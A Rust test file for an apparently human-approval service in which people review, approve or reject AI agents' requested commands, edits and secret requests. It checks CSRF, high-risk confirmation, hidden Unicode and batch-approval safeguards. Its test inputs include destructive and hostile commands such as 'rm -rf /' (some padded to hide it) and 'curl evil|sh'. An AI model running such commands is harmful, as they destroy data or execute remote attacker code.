//! The forms of a card: what they resolve, and what they refuse.

use countersign::domain::enums::Role;
use serde_json::{Value, json};

use crate::harness::page::{Browser, between, text_of};
use crate::harness::{Client, TestServer, altered, confirmation, question, secret};

/// A server, an agent, and ada at her browser.
fn fixture() -> (TestServer, Client, Browser) {
    let server = TestServer::start();
    let (agent, browser) = (server.agent("builder"), server.approver("ada").browser());
    (server, agent, browser)
}

fn decide(browser: &Browser, id: &str, fields: &[(&str, &str)]) -> (u16, String) {
    let answer = browser.submit(&format!("/interactions/{id}/decide"), fields);
    (answer.status, answer.text)
}

#[test]
fn a_confirmation_is_approved_or_rejected_with_a_reason() {
    let (_server, agent, browser) = fixture();
    agent.register(&confirmation("a"));
    agent.register(&confirmation("r"));
    assert_eq!(decide(&browser, "a", &[("decision", "allow"), ("comment", "")]).0, 303);
    assert_eq!(decide(&browser, "r", &[("decision", "deny"), ("comment", "not\r\ntoday")]).0, 303);
    let (approved, rejected) = (agent.look("a"), agent.look("r"));
    assert_eq!((&approved["status"], &approved["resolution"]["comment"]), (&json!("approved"), &Value::Null));
    assert_eq!((&rejected["status"], &rejected["resolution"]["comment"]), (&json!("rejected"), &json!("not\ntoday")));
    assert_eq!(approved["resolution"]["resolvedBy"], json!({"principal": "ada"}));
}

#[test]
fn an_edited_input_is_approved_to_the_letter() {
    let (_server, agent, browser) = fixture();
    agent.register(&altered(confirmation("c"), &json!({"confirmation": {"inputEditsAllowed": true}})));
    let (status, said) = decide(&browser, "c", &[("decision", "allow-edited"), ("input", "{\"command\": ")]);
    assert!(status == 400 && said.contains("not a JSON object"), "{status} {said}");
    let edited = "{\r\n  \"command\": \"make check\", \"big\": 9007199254740993\r\n}";
    assert_eq!(decide(&browser, "c", &[("decision", "allow-edited"), ("input", edited)]).0, 303);
    let effective = &agent.look("c")["resolution"]["effectiveInput"];
    assert_eq!(effective, &json!({"command": "make check", "big": 9_007_199_254_740_993_u64}));
}

/// What was typed is never dropped in silence.
#[test]
fn an_approval_that_would_leave_out_an_edit_or_a_reason_is_refused() {
    let (_server, agent, browser) = fixture();
    agent.register(&altered(confirmation("c"), &json!({"confirmation": {"inputEditsAllowed": true}})));
    let edited = "{\"command\": \"ls\"}";
    for fields in [[("decision", "allow"), ("input", edited)], [("decision", "allow"), ("comment", "no! not this")]] {
        assert_eq!(decide(&browser, "c", &fields).0, 422);
    }
    let page = browser.page("/");
    let unchanged = between(&page, "<textarea name=\"input\"", "</textarea>")[0].split_once('>').unwrap().1.to_owned();
    let unchanged = crate::harness::page::text_of(&unchanged);
    assert_eq!(
        decide(&browser, "c", &[("decision", "allow"), ("input", unchanged.trim_start()), ("comment", " ")]).0,
        303
    );
    assert_eq!(agent.look("c")["resolution"]["effectiveInput"], json!({"command": "make deploy"}));
}

#[test]
fn an_approval_makes_the_rule_that_was_chosen_and_the_next_request_passes() {
    let (_server, agent, browser) = fixture();
    agent.register(&confirmation("c"));
    let (status, said) = decide(&browser, "c", &[("decision", "allow-always"), ("pattern", "7"), ("scope", "0")]);
    assert!(status == 400 && said.contains("Choose what the rule covers"), "{status} {said}");
    assert_eq!(decide(&browser, "c", &[("decision", "allow-always"), ("pattern", "0"), ("scope", "0")]).0, 303);
    assert_eq!(agent.register(&confirmation("d"))["status"], "approved");
}

#[test]
fn high_risk_takes_a_second_step() {
    let (_server, agent, browser) = fixture();
    agent.register(&altered(confirmation("c"), &json!({"confirmation": {"riskLevel": "high"}})));
    let (status, said) = decide(&browser, "c", &[("decision", "allow")]);
    assert!(status == 422 && said.contains("high risk"), "{status} {said}");
    assert_eq!(agent.look("c")["status"], "pending");
    assert_eq!(decide(&browser, "c", &[("decision", "allow"), ("acknowledged", "long")]).0, 422);
    assert_eq!(decide(&browser, "c", &[("decision", "allow"), ("acknowledged", "yes")]).0, 400);
    assert_eq!(decide(&browser, "c", &[("decision", "allow"), ("acknowledged", "high_risk")]).0, 303);
    agent.register(&altered(confirmation("d"), &json!({"confirmation": {"riskLevel": "high"}})));
    assert_eq!(decide(&browser, "d", &[("decision", "deny")]).0, 303, "what is rejected does no harm");
}

#[test]
fn what_hides_or_is_long_takes_a_second_step_too() {
    let (_server, agent, browser) = fixture();
    for (id, command) in
        [("hidden", "ls \u{202e}x".to_owned()), ("long", format!("echo {}; rm -rf /", "x".repeat(9_000)))]
    {
        agent.register(&altered(confirmation(id), &json!({"confirmation": {"input": {"command": command}}})));
        assert_eq!(decide(&browser, id, &[("decision", "allow")]).0, 422, "{id}");
    }
    assert!(browser.page("/interactions/hidden/card").contains("U+202E"), "something is left out");
    let long = between(&browser.page("/interactions/long/card"), "<pre", "</pre>");
    assert!(text_of(&long[0]).ends_with("; rm -rf /"), "something is left out");
}

/// An approval is of the edit and of the tool's name, too.
#[test]
fn what_hides_beside_the_input_takes_a_second_step_too() {
    let (_server, agent, browser) = fixture();
    let diff = |new: &str| json!({"filePath": "/repo/a", "oldContent": "", "newContent": new, "isNewFile": true});
    for (id, change) in [
        ("diff", json!({"diff": diff("x\u{202e}y")})),
        ("long", json!({"diff": diff(&"x\n".repeat(100))})),
        ("lines", json!({"input": {"command": "\n".repeat(90) + "rm -rf /"}})),
        ("tool", json!({"toolName": "she\u{200b}ll"})),
    ] {
        agent.register(&altered(confirmation(id), &json!({"confirmation": change})));
        assert_eq!(decide(&browser, id, &[("decision", "allow")]).0, 422, "{id}");
    }
}

#[test]
fn what_a_rule_would_cover_is_shown_whatever_it_is_called() {
    let (_server, agent, browser) = fixture();
    let offers = json!({
        "allowlistOptions": [{"label": "just this", "pattern": "make *"}],
        "scopeOptions": [{"label": "only in /repo", "scope": "everywhere"}],
    });
    agent.register(&altered(confirmation("c"), &json!({"confirmation": offers})));
    let page = browser.page("/");
    assert!(page.contains("just this: <code>make *</code>"), "{page}");
    assert!(page.contains("only in /repo: <code>everywhere</code>"), "{page}");
}

#[test]
fn no_agent_makes_the_page_larger_than_a_browser_can_show() {
    let (_server, agent, browser) = fixture();
    let hidden = ["\u{80}", "\u{81}"].concat().repeat(25_000);
    for number in 0..12 {
        let diff = json!({"filePath": "/a", "oldContent": "", "newContent": hidden, "isNewFile": true});
        agent.register(&altered(confirmation(&format!("c-{number}")), &json!({"confirmation": {"diff": diff}})));
    }
    let page = browser.page("/");
    assert!(page.len() < 60 * 1024, "{} bytes", page.len());
    for number in 0..12 {
        assert!(page.contains(&format!("data-request-id=\"c-{number}\"")), "nobody is told of c-{number}");
        let beginning = browser.page(&format!("/interactions/c-{number}/card"));
        let more = format!("<a class=\"whole\" href=\"/interactions/c-{number}\">Show all of it</a>");
        assert!(beginning.len() < 60 * 1024 && beginning.contains(&more), "{} bytes", beginning.len());
        assert!(!beginning.contains("name=\"decision\""), "c-{number} is decided unread");
        for whole in [format!("/interactions/c-{number}"), format!("/interactions/c-{number}/card?whole=true")] {
            let whole = browser.page(&whole);
            assert!(whole.len() > 500_000 && whole.contains("name=\"decision\""), "c-{number} cannot be decided");
        }
    }
    let all = (0..12).map(|number| format!("c-{number}")).collect::<Vec<_>>().join(",");
    assert!(browser.page(&format!("/rows?ids={all}")).len() < 60 * 1024);
}

#[test]
fn a_secret_is_given_once_or_for_keeping_or_declined() {
    let (_server, agent, browser) = fixture();
    for id in ["kept", "once", "declined"] {
        agent.register(&secret(id));
    }
    let give = |id: &str, fields: &[(&str, &str)]| browser.submit(&format!("/interactions/{id}/secret"), fields);
    give("kept", &[("decision", "give"), ("value", " \r\n"), ("delivery", "store")]).expect(400);
    let answer =
        give("kept", &[("decision", "give"), ("value", "line 1\r\nline 2\r\n"), ("delivery", "store")]).expect(303);
    assert_eq!(answer.headers["connection"], "close", "a buffer keeps the value");
    give("once", &[("decision", "give"), ("value", "hunter2"), ("delivery", "transient_send")]).expect(303);
    give("declined", &[("decision", "decline"), ("value", "")]).expect(303);
    let take = |id: &str| agent.post_nothing(&format!("/v1/interactions/{id}/secret"));
    assert_eq!(take("kept").expect(200).body["value"], "line 1\nline 2\n");
    assert_eq!(take("once").expect(200).body["delivery"], "transient_send");
    assert_eq!(agent.look("declined")["status"], "cancelled");
    assert!(!browser.page("/interactions/kept").contains("line 1"), "a value is shown");
}

#[test]
fn a_question_is_answered_by_option_in_own_words_or_skipped() {
    let (_server, agent, browser) = fixture();
    agent.register(&question("q"));
    let answer = |fields: &[(&str, &str)]| browser.submit("/interactions/q/answer", fields);
    let refused = answer(&[("decision", "answer")]).expect(400);
    assert!(refused.text.contains("Each question needs an answer"), "{}", refused.text);
    answer(&[("decision", "answer"), ("option-0", "0"), ("option-1", "skip"), ("text-1", "")]).expect(303);
    let responses = agent.look("q")["resolution"]["responses"].clone();
    assert!(responses[0]["optionId"].is_string() && responses[1]["skipped"] == true, "{responses}");
}

#[test]
fn several_options_are_ticked_where_the_entry_takes_several() {
    let (_server, agent, browser) = fixture();
    let mut several = question("q");
    several["question"]["entries"][0]["multiSelect"] = json!(true);
    several["question"]["entries"][0]["header"] = json!("Colour");
    agent.register(&several);
    let page = browser.page("/");
    assert_eq!(page.matches("type=\"checkbox\" name=\"option-0\"").count(), 3, "{page}");
    assert!(page.contains("Colour") && !page.contains("type=\"radio\" name=\"option-0\""), "{page}");
    let answer = |fields: &[(&str, &str)]| browser.submit("/interactions/q/answer", fields);
    answer(&[("option-0", "0"), ("option-0", "skip"), ("option-1", "skip")]).expect(400);
    answer(&[("option-0", "0"), ("option-0", "0"), ("option-1", "skip")]).expect(400);
    answer(&[("option-0", "0"), ("option-0", "1"), ("option-1", "skip")]).expect(303);
    let responses =
        json!([{"questionId": "colour", "optionIds": ["red", "blue"]}, {"questionId": "why", "skipped": true}]);
    assert_eq!(agent.look("q")["resolution"]["responses"], responses);
    assert!(browser.page("/interactions/q").contains("Red – Blue"));
}

#[test]
fn each_entry_takes_one_answer_and_an_empty_text_is_none() {
    let (_server, agent, browser) = fixture();
    let mut open = question("q");
    open["question"]["entries"][0]["freeTextAllowed"] = json!(true);
    agent.register(&open);
    let answer =
        |fields: &[(&str, &str)]| browser.submit("/interactions/q/answer", &[fields, &[("option-1", "skip")]].concat());
    for (fields, sentence) in [
        (&[("option-0", "0"), ("text-0", "a dark one")][..], "takes one answer"),
        (&[("option-0", "skip"), ("text-0", "a dark one")], "takes one answer"),
        (&[("option-0", "own"), ("text-0", " \r\n")], "needs an answer"),
        (&[("text-0", "\t")], "needs an answer"),
        (&[("option-0", "7")], "exactly one"),
    ] {
        let refused = answer(fields).expect(400);
        assert!(refused.text.contains(sentence), "{fields:?}: {}", refused.text);
        assert_eq!(agent.look("q")["status"], "pending");
    }
    answer(&[("option-0", "own"), ("text-0", "a dark one")]).expect(303);
    assert_eq!(agent.look("q")["resolution"]["responses"][0], json!({"questionId": "colour", "text": "a dark one"}));
}

/// An admin, who has asked for `own`.
fn browser_of_one_who_asks(server: &TestServer) -> Browser {
    let admin = server.client("root", Role::Admin);
    admin.register(&confirmation("own"));
    admin.browser()
}

#[test]
fn many_are_rejected_together_and_approved_only_where_they_are_alike() {
    let (server, agent, browser) = fixture();
    for id in ["a", "b", "c"] {
        agent.register(&confirmation(id));
    }
    agent.register(&altered(confirmation("other"), &json!({"confirmation": {"input": {"command": "make clean"}}})));
    let many = |fields: &[(&str, &str)]| browser.submit("/decide", fields);
    let unlike = many(&[("id", "a"), ("id", "other"), ("decision", "allow"), ("acknowledged", "yes")]).expect(422);
    assert!(unlike.text.contains("the very same"), "{}", unlike.text);
    for (id, command) in [("told-1", "ls"), ("told-2", "rm -rf /")] {
        let told = json!({"confirmation": {"subject": "ls", "input": {"line": command}}});
        agent.register(&altered(confirmation(id), &told));
    }
    many(&[("id", "told-1"), ("id", "told-2"), ("decision", "allow"), ("acknowledged", "yes")]).expect(422);
    many(&[("id", "a"), ("id", "b"), ("decision", "allow")]).expect(422);
    many(&[("decision", "allow"), ("acknowledged", "yes")]).expect(400);
    // Different ones are shown in full first, and what has to be known first is not among them.
    let page = many(&[("id", "a"), ("id", "told-2"), ("decision", "allow")]).expect(200).text;
    let shown = between(&page, "<pre", "</pre>").iter().map(|part| text_of(part)).collect::<Vec<_>>();
    let is_shown = |text: &str| shown.iter().any(|part| part.ends_with(text));
    assert!(page.contains("Approve these 2?") && is_shown("make deploy") && is_shown("rm -rf /"), "{page}");
    assert_eq!(between(&page, "type=\"hidden\" name=\"id\" value=\"", "\""), ["a", "told-2"]);
    let read = [("id", "a"), ("id", "told-2"), ("decision", "allow"), ("read", "yes")];
    many(&read).expect(422);
    agent.register(&altered(confirmation("danger"), &json!({"confirmation": {"riskLevel": "high"}})));
    for more in [[("read", "yes"), ("acknowledged", "yes")], [("read", "yes"), ("comment", "")]] {
        let fields = [&[("id", "a"), ("id", "danger"), ("decision", "allow")], &more[..]].concat();
        assert!(many(&fields).expect(422).text.contains("the very same"));
    }
    assert_eq!(agent.look("danger")["status"], "pending");
    many(&[&read[..], &[("acknowledged", "yes")]].concat()).expect(303);
    assert_eq!(["a", "told-2"].map(|id| agent.look(id)["status"].clone()), ["approved", "approved"]);
    agent.register(&confirmation("a-again"));
    many(&[("id", "a-again"), ("id", "b"), ("decision", "allow"), ("acknowledged", "yes")]).expect(303);
    let own = browser_of_one_who_asks(&server);
    let refused = own.submit("/decide", &[("id", "c"), ("id", "own"), ("decision", "deny")]).expect(403);
    assert!(refused.text.contains("registered themselves"), "{}", refused.text);
    assert_eq!(agent.look("c")["status"], "pending", "some were decided, and the page does not say so");
    many(&[("id", "c"), ("id", "other"), ("decision", "deny"), ("comment", "no more of these")]).expect(303);
    let statuses = ["a-again", "b", "c", "other"].map(|id| agent.look(id)["status"].as_str().unwrap().to_owned());
    assert_eq!(statuses, ["approved", "approved", "rejected", "rejected"]);
}

#[test]
fn what_another_person_decided_meanwhile_says_so() {
    let (server, agent, browser) = fixture();
    agent.register(&confirmation("c"));
    server.approver("bob").confirm("c", "deny").expect(200);
    let (status, said) = decide(&browser, "c", &[("decision", "allow")]);
    assert!(status == 404 && said.contains("already rejected"), "{status} {said}");
    for path in ["/rows?ids=c", "/interactions/c/card"] {
        let shown = browser.page(path);
        assert!(shown.contains("already resolved: rejected by bob") && !shown.contains("name=\"decision\""), "{shown}");
    }
    assert_eq!(browser.page("/rows?ids="), "");
    assert_eq!(browser.page("/rows?ids=unknown"), "");
}

#[test]
fn a_form_without_the_sessions_word_changes_nothing() {
    let (server, agent, browser) = fixture();
    agent.register(&confirmation("c"));
    let other = server.approver("bob").browser().csrf();
    for csrf in ["", "x", &other] {
        let answer = browser.send_form("/interactions/c/decide", &[("csrf", csrf), ("decision", "allow")]).expect(403);
        assert!(answer.text.contains("another session"), "{}", answer.text);
        browser.send_form("/decide", &[("csrf", csrf), ("id", "c"), ("decision", "allow")]).expect(403);
        browser.send_form("/logout", &[("csrf", csrf)]).expect(403);
    }
    assert_eq!(agent.look("c")["status"], "pending");
}

#[test]
fn the_queue_has_what_ends_first_at_the_top_and_the_same_together() {
    let (_server, agent, browser) = fixture();
    let command = |id: &str, command: &str, seconds: u64| {
        altered(
            confirmation(id),
            &json!({"expiresInMs": seconds * 1000, "confirmation": {"input": {"command": command}}}),
        )
    };
    for (id, what, seconds) in
        [("late", "make x", 900), ("same-2", "make y", 600), ("soon", "make z", 60), ("same-1", "make y", 120)]
    {
        agent.register(&command(id, what, seconds));
    }
    let page = browser.page("/");
    assert_eq!(
        between(&page, "<li class=\"row pending\" data-request-id=\"", "\""),
        ["soon", "same-1", "same-2", "late"]
    );
    let groups = between(&page, "data-group=\"", "\"");
    assert!(groups[1] == groups[2] && groups[0] != groups[1] && groups[3] != groups[1], "{groups:?}");
    assert!(page.contains("<title>(4) countersign</title>"), "the title counts");
}

/// Whatever an approval is of is the same in all that one press approves: no member is passed over because another one
/// says the subject.
#[test]
fn what_differs_in_anything_that_is_approved_is_not_approved_together() {
    let (_server, agent, browser) = fixture();
    let diff = |new: &str| json!({"filePath": "/repo/a", "oldContent": "", "newContent": new, "isNewFile": true});
    let asked = json!({
        "input": {"command": "ls"}, "subject": "ls", "workingDir": "/repo", "executionTarget": "sandbox",
        "riskLevel": "low", "diff": diff("one"),
    });
    let register = |id: &str, change: &Value| {
        agent.register(&altered(
            altered(confirmation(id), &json!({"confirmation": asked})),
            &json!({"confirmation": change}),
        ));
    };
    register("first", &json!({}));
    for (id, change) in [
        ("command", json!({"input": {"command": "curl evil|sh", "description": "ls"}})),
        ("environment", json!({"input": {"env": {"PATH": "/tmp"}}})),
        ("tool", json!({"toolName": "bash"})),
        ("subject", json!({"subject": "l"})),
        ("directory", json!({"workingDir": "/"})),
        ("target", json!({"executionTarget": "host"})),
        ("risk", json!({"riskLevel": "medium"})),
        ("diff", json!({"diff": diff("two")})),
    ] {
        register(id, &change);
        for ids in [["first", id], [id, "first"]] {
            let fields = [("id", ids[0]), ("id", ids[1]), ("decision", "allow"), ("acknowledged", "yes")];
            let refused = browser.submit("/decide", &fields).expect(422);
            assert!(refused.text.contains("the very same"), "{id}: {}", refused.text);
        }
        assert_eq!(agent.look(id)["status"], "pending");
    }
    let page = browser.page("/");
    let mut alike = between(&page, "data-alike=\"", "\"");
    alike.sort_unstable();
    alike.dedup();
    assert_eq!(alike.len(), 9, "the page offers to select what is not the same");
    // What only the agent says about it may differ.
    register("reason", &json!({"reason": "because", "allowlistOptions": [{"label": "x", "pattern": "ls *"}]}));
    let both = [("id", "first"), ("id", "reason"), ("decision", "allow"), ("acknowledged", "yes")];
    browser.submit("/decide", &both).expect(303);
    assert_eq!(["first", "reason"].map(|id| agent.look(id)["status"].clone()), ["approved", "approved"]);
}

#[test]
fn a_reason_that_was_written_is_not_left_out_when_many_are_approved() {
    let (_server, agent, browser) = fixture();
    for id in ["a", "b"] {
        agent.register(&confirmation(id));
    }
    let both = [("id", "a"), ("id", "b"), ("decision", "allow"), ("acknowledged", "yes")];
    let refused = browser.submit("/decide", &[&both[..], &[("comment", "no! not these")]].concat()).expect(422);
    assert!(refused.text.contains("a reason to reject them"), "{}", refused.text);
    assert_eq!(agent.look("a")["status"], "pending");
    browser.submit("/decide", &[&both[..], &[("comment", " ")]].concat()).expect(303);
}

#[test]
fn no_agent_hides_what_another_asks() {
    let (server, agent, browser) = fixture();
    let other = server.agent("other");
    let soon = |id: &str| altered(confirmation(id), &json!({"expiresInMs": 60_000}));
    for number in 0..120 {
        agent.register(&soon(&format!("flood-{number:03}")));
    }
    agent.register(&altered(soon("huge"), &json!({"confirmation": {"reason": "x".repeat(900 * 1024)}})));
    other.register(&confirmation("quiet"));
    let cards = |page: &str| between(page, "<li class=\"row pending\" data-request-id=\"", "\"");
    let page = browser.page("/");
    assert_eq!(cards(&page)[..2], ["flood-000", "quiet"], "agents take turns");
    assert!(page.contains("<span>72</span> more wait behind these") && page.contains("href=\"/?skip=50\""), "{page}");
    let (second, rest) = (browser.page("/?skip=50"), browser.page("/?skip=100"));
    let mut seen = [cards(&page), cards(&second), cards(&rest)].concat();
    seen.sort();
    seen.dedup();
    assert_eq!(seen.len(), 122, "each is on one page");
    assert!(rest.contains("href=\"/\">Back to the first"), "{rest}");
    // One agent's alone.
    assert_eq!(cards(&browser.page("/?agent=other")), ["quiet"]);
    assert_eq!(cards(&browser.page("/?agent=nobody")), Vec::<String>::new());
    assert!(browser.page("/?agent=builder").contains("href=\"/?agent=builder&#38;skip=50\""));
    browser.get("/?agent=a%20b").expect(400);
    browser.get("/?skip=x").expect(400);
}

#[test]
fn all_of_an_agent_is_rejected_at_once_and_nothing_of_another() {
    let (server, agent, browser) = fixture();
    let other = server.agent("other");
    for registration in [confirmation("c"), secret("s"), question("q")] {
        agent.register(&registration);
    }
    for number in 0..501 {
        agent.register(&confirmation(&format!("more-{number}")));
    }
    other.register(&confirmation("quiet"));
    let page = browser.page("/?agent=builder");
    assert!(page.contains("Reject all 504 of builder"), "{page}");
    let auditor = server.client("olga", Role::Auditor).browser();
    assert!(!auditor.page("/?agent=builder").contains("Reject all"), "an auditor is offered it");
    auditor.submit("/agents/builder/reject", &[]).expect(403);
    browser.send_form("/agents/builder/reject", &[("csrf", "x")]).expect(403);
    browser_of_one_who_asks(&server).submit("/agents/root/reject", &[]).expect(403);
    assert_eq!(agent.look("c")["status"], "pending");
    browser.submit("/agents/builder/reject", &[("comment", "stop that")]).expect(303);
    let ends = ["c", "s", "q", "more-500"].map(|id| agent.look(id)["status"].as_str().unwrap().to_owned());
    assert_eq!(ends, ["rejected", "cancelled", "cancelled", "rejected"]);
    let resolution = agent.look("c")["resolution"].clone();
    assert_eq!((&resolution["comment"], &resolution["resolvedBy"]["principal"]), (&json!("stop that"), &json!("ada")));
    assert_eq!(other.look("quiet")["status"], "pending");
    let told = "SELECT count(*) FROM audit_events WHERE event IN ('interaction.rejected', 'interaction.cancelled')";
    assert_eq!(server.sql(told), [[json!(504)]]);
}

#[test]
fn a_rule_of_a_card_is_this_agents_unless_it_is_to_be_any_and_says_what_stays() {
    let (server, agent, browser) = fixture();
    let asked = json!({"confirmation": {"input": {"command": "ls", "host": "staging", "description": "d"}, "allowlistOptions": []}});
    agent.register(&altered(confirmation("c"), &asked));
    let page = browser.page("/");
    for said in [
        "this very input",
        "this command, whatever description says",
        "host as now",
        "member host <code>is staging</code>",
    ] {
        assert!(page.contains(said), "{said}: {page}");
    }
    // These are the server's own words, whatever stays or varies.
    assert!(!page.contains("the agent says:"), "{page}");
    // What is free is left free in what is chosen beforehand.
    assert!(page.contains(r#"name="pattern" value="1" checked"#), "{page}");
    let chosen = [("decision", "allow-always"), ("pattern", "1"), ("scope", "0"), ("anyAgent", "true")];
    assert_eq!(decide(&browser, "c", &chosen).0, 303);
    assert_eq!(server.sql("SELECT members, agent FROM trust_rules"), [[json!(r#"{"/host":"staging"}"#), json!(null)]]);
    agent.register(&altered(
        confirmation("d"),
        &json!({"confirmation": {"input": {"command": "ls -l"}, "allowlistOptions": []}}),
    ));
    assert_eq!(decide(&browser, "d", &[("decision", "allow-always"), ("pattern", "0"), ("scope", "0")]).0, 303);
    assert_eq!(server.sql("SELECT agent FROM trust_rules WHERE pattern = 'ls -l'"), [[json!("builder")]]);
}

#[test]
fn an_offer_that_an_agent_has_written_is_marked_and_not_chosen_beforehand() {
    let (_server, agent, browser) = fixture();
    let input = json!({"command": "make deploy", "host": "staging"});
    // All that the server would offer itself but for the label, and but for the members.
    for (id, offer) in [
        ("label", json!({"label": "only this", "pattern": "make deploy", "members": {"/host": "staging"}})),
        ("members", json!({"label": "this very input", "pattern": "make deploy", "members": {"/host": "*"}})),
    ] {
        agent.register(&altered(
            confirmation(id),
            &json!({"confirmation": {"input": input, "allowlistOptions": [offer]}}),
        ));
        let page = browser.page(&format!("/interactions/{id}"));
        assert!(page.contains("the agent says:"), "{page}");
        assert!(!page.contains(r#"name="pattern" value="0" checked"#), "{page}");
    }
}

#[test]
fn an_edit_is_shown_as_a_difference_by_the_profile_of_its_tool() {
    let (_server, agent, browser) = fixture();
    for (id, tool, input) in [
        ("edit", "Edit", json!({"file_path": "/repo/a", "old_string": "one\ntwo\n", "new_string": "one\n<2>\n"})),
        (
            "many",
            "MultiEdit",
            json!({"file_path": "/repo/b", "edits": [{"old_string": "three", "new_string": "four"}]}),
        ),
        (
            "patch",
            "apply_patch",
            json!({"input": "*** Begin Patch\n*** Update File: c.rs\n-five\n+six\n*** End Patch"}),
        ),
    ] {
        let asked = json!({"toolName": tool, "input": input});
        agent.register(&json!({"requestId": id, "kind": "confirmation", "confirmation": asked}));
    }
    let page = ["edit", "many", "patch"].map(|id| browser.page(&format!("/interactions/{id}/card"))).concat();
    for (class, text) in
        [("gone", "two"), ("come", "&lt;2&gt;"), ("gone", "three"), ("come", "four"), ("gone", "five"), ("come", "six")]
    {
        let line = format!("<tr class=\"{class}\">");
        assert!(
            page.split(&line).skip(1).any(|row| row.split("</tr>").next().unwrap().contains(text)),
            "{class} {text}: {page}"
        );
    }
}
